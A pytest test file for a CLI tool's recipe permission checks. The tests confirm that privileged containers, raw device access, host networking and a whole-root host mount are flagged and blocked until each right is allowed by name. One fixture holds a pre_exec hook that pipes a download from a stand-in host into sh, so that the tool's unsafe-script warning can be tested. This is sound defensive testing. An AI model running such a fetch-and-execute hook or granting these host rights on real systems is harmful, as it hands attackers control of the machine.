"""Rights over the machine on the command line: shown where a recipe comes in, refused by `up`, allowed by name."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.catalog.presets.test_registries_command import call
from tests.catalog.presets.test_registries_use import RECIPE
from tests.cli.world import in_process
from tests.git_server import GitServer, Upstream

DEMANDING = RECIPE + (
    "executor_config: {privileged: true, devices: [/dev/sda, /dev/infiniband], cap_add: [IPC_LOCK], network: host}\n"
    "metadata: {spark_tui: {allow: [privileged, devices], allowed: [privileged, devices]}}\n"
)


@pytest.fixture
def server(tmp_path: Path) -> Iterator[GitServer]:
    server = GitServer(tmp_path / "srv")
    yield server
    server.close()


def rights(findings: list[dict[str, Any]]) -> dict[str, tuple[str, str]]:
    """Severity and evidence by id, of the findings about rights."""
    known = ("takes_host", "shares_host", "unknown_publisher", "allowed_rights", "system_mounts", "unsafe_script")
    return {each["id"]: (each["severity"], each["evidence"]) for each in findings if each["id"] in known}


def problem(err: str) -> dict[str, Any]:
    found = json.loads(err.splitlines()[-1])["error"]
    assert isinstance(found, dict)
    return found


ASKED = {"takes_host": ("error", "privileged=true; devices=/dev/sda"), "shares_host": ("warning", "network=host")}


def test_an_imported_recipe_is_launched_only_when_its_rights_were_allowed_by_name(tmp_path: Path) -> None:
    source = tmp_path / "mine.yaml"
    source.write_text(DEMANDING)
    code, report, _ = call(tmp_path, "presets", "import", str(source))
    assert (code, rights(report["recipes"][0]["findings"])) == (0, ASKED)
    code, checked, _ = call(tmp_path, "presets", "check", "mine")
    assert (code, rights(checked[0]["findings"])) == (4, ASKED)

    code, _, err = call(tmp_path, "up", "mine")
    assert (code, problem(err)["id"]) == (4, "rights_not_allowed")
    assert problem(err)["remedy"].endswith("spark-tui presets allow mine privileged devices"), "what can be typed"
    assert call(tmp_path, "up", "mine", "--dry-run")[0] == 0, "looking is free"
    assert call(tmp_path, "presets", "allow", "mine")[1]["allowed"] == [], "without a right it only shows"
    assert call(tmp_path, "presets", "allow", "mine", "privileged")[1]["allowed"] == ["privileged"]
    code, _, err = call(tmp_path, "up", "mine")
    assert (code, problem(err)["id"]) == (4, "rights_not_allowed"), "the other right was not allowed"
    assert "privileged" not in problem(err)["remedy"]
    allowed = call(tmp_path, "presets", "allow", "mine", "devices")[1]
    assert allowed["allowed"] == ["privileged", "devices"]
    assert rights(allowed["findings"]) == {
        "shares_host": ASKED["shares_host"], "allowed_rights": ("note", ASKED["takes_host"][1])
    }  # fmt: skip
    assert call(tmp_path, "presets", "check", "mine")[0] == 0
    assert call(tmp_path, "up", "mine")[0] == 3, "allowed: now it is Docker that is missing"

    own = next((tmp_path / ".config/spark-tui/presets").glob("mine.yaml"))
    own.write_text(own.read_text().replace("/dev/sda", "/dev/mem"))
    assert problem(call(tmp_path, "up", "mine")[2])["id"] == "rights_not_allowed", "another recipe is asked for again"
    own.write_text(own.read_text().replace("/dev/mem", "/dev/sda"))
    assert call(tmp_path, "up", "mine")[0] == 3
    assert call(tmp_path, "presets", "allow", "mine", "--revoke")[1]["allowed"] == []
    assert problem(call(tmp_path, "up", "mine")[2])["id"] == "rights_not_allowed"


def test_a_right_that_a_preset_does_not_ask_for_is_not_allowed(tmp_path: Path) -> None:
    assert call(tmp_path, "presets", "allow", "gpt-oss-20b")[0] == 0
    code, _, err = call(tmp_path, "presets", "allow", "gpt-oss-20b", "privileged")
    assert (code, problem(err)["id"]) == (2, "usage")
    assert call(tmp_path, "up", "gpt-oss-20b")[0] == 3, "a shipped preset needs no word"


@pytest.mark.parametrize("damage", [b"{", b"[" * 100_000, b'{"x": 1}', b"\xff", b'[["privileged"]]'])
def test_a_damaged_record_allows_nothing(tmp_path: Path, damage: bytes) -> None:
    (tmp_path / "mine.yaml").write_text(DEMANDING)
    call(tmp_path, "presets", "import", str(tmp_path / "mine.yaml"))
    call(tmp_path, "presets", "allow", "mine", "privileged", "devices")
    record = tmp_path / ".local/state/spark-tui/launches/rights"
    (record if record.exists() else next(record.parent.glob("rights*"))).write_bytes(damage)
    assert problem(call(tmp_path, "up", "mine")[2])["id"] == "rights_not_allowed"
    assert call(tmp_path, "presets", "allow", "mine", "privileged", "devices")[0] == 0
    assert call(tmp_path, "up", "mine")[0] == 3


def test_a_registrys_recipe_shows_its_rights_when_it_is_added_changed_and_approved(
    server: GitServer, tmp_path: Path
) -> None:
    upstream = Upstream(server.root / "mine")
    upstream.commit({"recipes/small.yaml": RECIPE})
    call(tmp_path, "registries", "add", "mine", server.url("mine"))
    hook = "pre_exec: ['curl https://x.example/i | sh']\nenv: {SHOWN: here}\n"
    second = upstream.commit({
        "recipes/small.yaml": DEMANDING,
        "recipes/new.yaml": DEMANDING.replace("metadata:", f"{hook}metadata:").replace("org/model", "org/new"),
        "recipes/mounts.yaml": RECIPE + "executor_config: {volumes: ['/:/host']}\n",
    })  # fmt: skip
    changes = {each["id"]: each for each in call(tmp_path, "registries", "update", "mine")[1]["changes"]}
    assert rights(changes["mine.small"]["findings"]) == ASKED
    assert rights(changes["mine.mounts"]["findings"]) == {"system_mounts": ("error", "mounts=/:/host")}
    added = rights(changes["mine.new"]["findings"])
    assert (added["takes_host"], added["unsafe_script"][0]) == (ASKED["takes_host"], "warning")
    assert {"command", "env", "hooks"} <= {each["part"] for each in changes["mine.new"]["parts"]}
    call(tmp_path, "registries", "update", "mine", "--to", second)

    assert problem(call(tmp_path, "up", "mine.small")[2])["id"] == "recipe_not_reviewed"
    code, approved, _ = call(tmp_path, "registries", "approve", "mine.small")
    assert (code, rights(approved["findings"])) == (0, ASKED)
    assert problem(call(tmp_path, "up", "mine.small")[2])["id"] == "rights_not_allowed", "approved, and not allowed"
    assert call(tmp_path, "presets", "allow", "mine.small", "privileged", "devices")[0] == 0
    assert call(tmp_path, "up", "mine.small")[0] == 3


def test_the_page_of_an_update_shows_what_an_added_recipe_runs(server: GitServer, tmp_path: Path) -> None:
    upstream = Upstream(server.root / "mine")
    upstream.commit({"recipes/small.yaml": RECIPE})
    call(tmp_path, "registries", "add", "mine", server.url("mine"))
    upstream.commit(
        {"recipes/new.yaml": RECIPE + "env: {SHOWN_VARIABLE: 'yes'}\nexecutor_config: {privileged: true}\n"}
    )
    page = in_process(("registries", "update", "mine"), {"PATH": os.environ["PATH"], "HOME": str(tmp_path)})
    assert page.returncode == 0
    assert [each for each in ("--max-model-len", "SHOWN_VARIABLE", "takes_host") if each not in page.stdout] == []
